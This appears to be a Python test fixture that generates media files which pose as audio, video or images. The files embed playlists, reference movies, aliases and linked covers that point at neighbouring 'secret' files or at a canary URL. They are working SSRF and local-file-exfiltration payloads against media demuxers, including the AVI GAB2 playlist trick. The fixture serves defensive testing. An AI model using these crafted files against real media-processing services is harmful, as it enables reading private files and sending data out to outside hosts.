"""Files that pose as media to have others opened: playlists, references, links and polyglots."""

import base64
import struct
from pathlib import Path

from tests.media.file.tiny_files import tiny_files
from tests.media.file.writers import (
    FILE_TYPE,
    box,
    element,
    flv,
    flv_tag,
    full_box,
    id3_frame,
    id3_tag,
    matroska,
    movie,
    number,
    ogg_page,
    pcm_entry,
    png,
    sample_tables,
    section,
    track,
    ts_packet,
    u16,
    u32,
)

SECRETS = ("secret.mp4", "secret.raw", "secret.ts", "secret1.png", "secret.sub")
"""The neighbours that they are after."""


def impostors(directory: Path, canary: str) -> dict[str, bytes]:
    """By name. `directory` holds the secrets; `canary` is the URL of a server that counts."""
    return {
        **_texts(directory, canary),
        **_behind_magic(canary),
        **_reference_movies(directory, canary),
        **_links(canary),
    }


def _texts(directory: Path, canary: str) -> dict[str, bytes]:
    secret = f"{directory}/secret.ts"
    m3u8 = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n{}#EXTINF:1,\n{}\n#EXT-X-ENDLIST\n"
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{canary}/key"\n'
    mpd = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">'
        '<Representation id="1" bandwidth="1"><BaseURL>{}</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>"
    )
    texts = {
        "ffconcat of a neighbour": "ffconcat version 1.0\nfile secret.mp4\n",
        "ffconcat of a path": f"ffconcat version 1.0\nfile {directory}/secret.mp4\n",
        "ffconcat of an address": f"ffconcat version 1.0\nfile {canary}/a.mp4\n",
        "ffconcat without its name": "file 'secret.mp4'\nfile 'secret.ts'\n",
        "ffconcat after a mark": "\ufeffffconcat version 1.0\nfile secret.mp4\n",
        "m3u8 of a neighbour": m3u8.format("", "secret.ts"),
        "m3u8 of a path": m3u8.format("", secret),
        "m3u8 of a file url": m3u8.format("", f"file://{secret}"),
        "m3u8 of an address": m3u8.format("", f"{canary}/a.ts"),
        "m3u8 with a key": m3u8.format(key, "secret.ts"),
        "m3u8 with a map": m3u8.format('#EXT-X-MAP:URI="secret.mp4"\n', "secret.ts"),
        "m3u8 of a part": m3u8.format("", f"subfile,,start,0,end,100,,:{secret}"),
        "m3u8 of a concatenation": m3u8.format("", f"concat:{canary}/a.ts|{secret}"),
        "m3u8 of variants": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{canary}/b.m3u8\n",
        "sdp": f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"a=control:{canary}/\r\nm=video 5004 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
        "ffmetadata": ";FFMETADATA1\ntitle=x\nurl=secret.mp4\n",
        "dash of an address": mpd.format(f"{canary}/a.mp4"),
        "dash of a neighbour": mpd.format("secret.mp4"),
        "rtsp text": f"RTSPtext\r\n{canary}/a.mov\r\n",
        "pls": f"[playlist]\nFile1={canary}/a.mp3\nNumberOfEntries=1\n",
        "asx": f'<asx version="3.0"><entry><ref href="{canary}/a.wmv"/></entry></asx>',
        "xspf": f"<playlist><trackList><location>{canary}/a</location></trackList></playlist>",
        "address": f"{canary}/a.mp4\n",
        "vobsub": "# VobSub index file, v7\nid: en, index: 0\n"
        "timestamp: 00:00:01:000, filepos: 000000000\n",
        "imf": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/'
        '2067-3/2016"><Id>urn:uuid:0</Id></CompositionPlaylist>',
        "filter graph": "movie=secret.mp4\n",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{canary}/a.png"/></svg>',
    }
    return {name: text.encode() for name, text in texts.items()}


def _behind_magic(canary: str) -> dict[str, bytes]:
    concat = b"ffconcat version 1.0\nfile secret.mp4\n"
    m3u8 = f"#EXTM3U\n#EXTINF:1,\n{canary}/a.ts\n#EXT-X-ENDLIST\n".encode()
    return {
        "ffconcat behind a tag": id3_tag() + concat,
        "m3u8 behind a long tag": id3_tag(id3_frame(b"TXXX", bytes(5_000))) + m3u8,
        "ffconcat behind a file type": FILE_TYPE + concat,
        "m3u8 in a media data box": FILE_TYPE + box(b"mdat", m3u8),
        "m3u8 behind an EBML head": matroska() + m3u8,
        "m3u8 behind an FLV head": flv() + m3u8 * 3,
        "m3u8 with sync bytes": b"".join(
            b"G" + line.ljust(187) for line in (m3u8, b"#1", b"#2", b"#3", b"#4", b"#5")
        ),
        "m3u8 in wave": b"RIFF\xff\xff\0\0WAVE" + m3u8,
        "m3u8 in an ogg page": ogg_page(1, 0, m3u8, flags=2),
        "m3u8 as FLAC": b"fLaC\x80\0\0\x22" + m3u8.ljust(34) + m3u8,
        "picture pattern": png(16, 16),
        "avi with GAB2": _avi_with_gab2(m3u8),
    }


def _avi_with_gab2(playlist: bytes) -> bytes:
    """The theft of 2016 and 2017: a playlist as a subtitle track within AVI."""
    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"x\0" + b"\4\0"
    gab2 += struct.pack("<I", len(playlist)) + playlist
    chunk = b"00tx" + struct.pack("<I", len(gab2)) + gab2
    movi = b"LIST" + struct.pack("<I", 4 + len(chunk)) + b"movi" + chunk
    strh = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52)
    strf = b"strf" + struct.pack("<I", 0)
    strl = b"LIST" + struct.pack("<I", 4 + len(strh + strf)) + b"strl" + strh + strf
    avih = b"avih" + struct.pack("<I", 56) + bytes(24) + struct.pack("<I", 1) + bytes(28)
    hdrl = b"LIST" + struct.pack("<I", 4 + len(avih + strl)) + b"hdrl" + avih + strl
    return b"RIFF" + struct.pack("<I", 4 + len(hdrl + movi)) + b"AVI " + hdrl + movi


def _reference_movies(directory: Path, canary: str) -> dict[str, bytes]:
    def elsewhere(kind: bytes, content: bytes) -> bytes:
        """Sound of which the samples are said to be in another file."""
        references = full_box(b"dref", u32(1), full_box(kind, content))
        tables = sample_tables(4_096, 2, 0)
        return FILE_TYPE + movie(
            track(b"soun", pcm_entry(), tables, duration=4_096, references=references)
        )

    link = box(b"rdrf", u32(0) + b"url " + u32(len(canary) + 1) + canary.encode() + b"\0")
    return {
        "mov of an address": elsewhere(b"url ", f"{canary}/a.mov\0".encode()),
        "mov of a file url": elsewhere(b"url ", f"file://{directory}/secret.raw\0".encode()),
        "mov alias of a neighbour": elsewhere(b"alis", _alias("secret.raw", "secret.raw")),
        "mov alias of a path": elsewhere(b"alis", _alias(f"{directory}/secret.raw", "secret.raw")),
        "mov alias upwards": elsewhere(b"alis", _alias("a:b:secret.raw", "secret.raw", levels=2)),
        "mov resource": elsewhere(b"rsrc", _alias("secret.raw", "secret.raw")),
        "mov of movies": FILE_TYPE + box(b"moov", box(b"rmra", box(b"rmda", link))),
    }


def _alias(path: str, name: str, levels: int = 1) -> bytes:
    """A Macintosh alias record, as libav's mov_read_dref reads it."""
    volume, file = b"disk".ljust(27, b"\0"), name.encode().ljust(63, b"\0")
    head = bytes(4) + u16(150) + bytes(4) + b"\x04" + volume + bytes(12)
    head += bytes([len(name)]) + file + bytes(16) + u16(levels) + u16(1) + bytes(16)
    parts = ((2, path.replace("/", ":").encode()), (18, path.encode()))
    tail = b"".join(u16(kind) + u16(len(data)) + data + b"\0" * (len(data) % 2)
                    for kind, data in parts)  # fmt: skip
    return head + tail + b"\xff\xff\0\0"


def _links(canary: str) -> dict[str, bytes]:
    tiny = {name: data for name, (_, data) in tiny_files().items()}
    address = f"{canary}/cover.png".encode()
    picture = u32(3) + u32(3) + b"-->" + u32(0) + bytes(16) + u32(len(address)) + address
    flac = tiny["flac"]
    first_block_end = 4 + 4 + int.from_bytes(flac[5:8], "big")
    block = b"\x06" + u32(len(picture))[1:] + picture
    comment = b"METADATA_BLOCK_PICTURE=" + base64.b64encode(picture)
    tags = b"OpusTags" + struct.pack("<I", 1) + b"x"
    tags += struct.pack("<I", 1) + struct.pack("<I", len(comment)) + comment
    head = b"OpusHead\x01\x02\0\0\x80\xbb\0\0\0\0\0"
    playlist = f"#EXTM3U\n#EXTINF:1,\n{canary}/a.ts\n".encode()
    attachment = element(
        0x1941A469,
        element(0x61A7, element(0x466E, b"a.m3u8"), element(0x4660, b"application/x-mpegurl"),
                element(0x465C, playlist), number(0x46AE, 7)),
    )  # fmt: skip
    linked = element(
        0x1549A966, number(0x2AD7B1, 1_000_000), element(0x73A4, bytes(16)),
        element(0x7384, b"secret.mp4"), element(0x3C83AB, b"secret.mp4"),
        element(0x3E83BB, b"secret.mp4"), element(0x3EB923, bytes(15) + b"\1"),
    )  # fmt: skip
    chapters = element(
        0x1043A770,
        element(0x45B9, number(0x45DD, 1),
                element(0xB6, number(0x73C4, 1), number(0x91, 0), element(0x6E67, bytes(16)))),
    )  # fmt: skip
    mkv_tracks = tiny["vp9 opus webm"]
    return {
        "flac with a linked cover": flac[:first_block_end] + block + flac[first_block_end:],
        "ogg with a linked cover": ogg_page(1, 0, head, flags=2) + ogg_page(1, 1, tags),
        "mp3 with a linked cover": id3_tag(
            id3_frame(b"APIC", b"\0-->\0\x03\0" + address),
            id3_frame(b"WXXX", b"\0\0" + address),
            id3_frame(b"LINK", b"APIC" + address + b"\0"),
        )
        + tiny["mp3"],
        "mkv with a playlist attached": matroska(attachment) + mkv_tracks,
        "mkv with linked segments": matroska(chapters, info=linked) + mkv_tracks,
        "flv with addresses": flv(
            flv_tag(18, 0, b"\x02\0\x0aonMetaData\x08\0\0\0\1\0\3url\x02"
                    + u16(len(address)) + address + b"\0\0\x09"),
        ) + tiny["h264 aac flv"][13:],
        "ts with a carousel": ts_packet(0, section(0, 1, u16(1) + u16(0xE100)))
        + ts_packet(256, section(2, 1, u16(0xE101) + u16(0xF000) + b"\x0b\xe1\x01\xf0\0"))
        + ts_packet(257, playlist) * 6,
    }  # fmt: skip
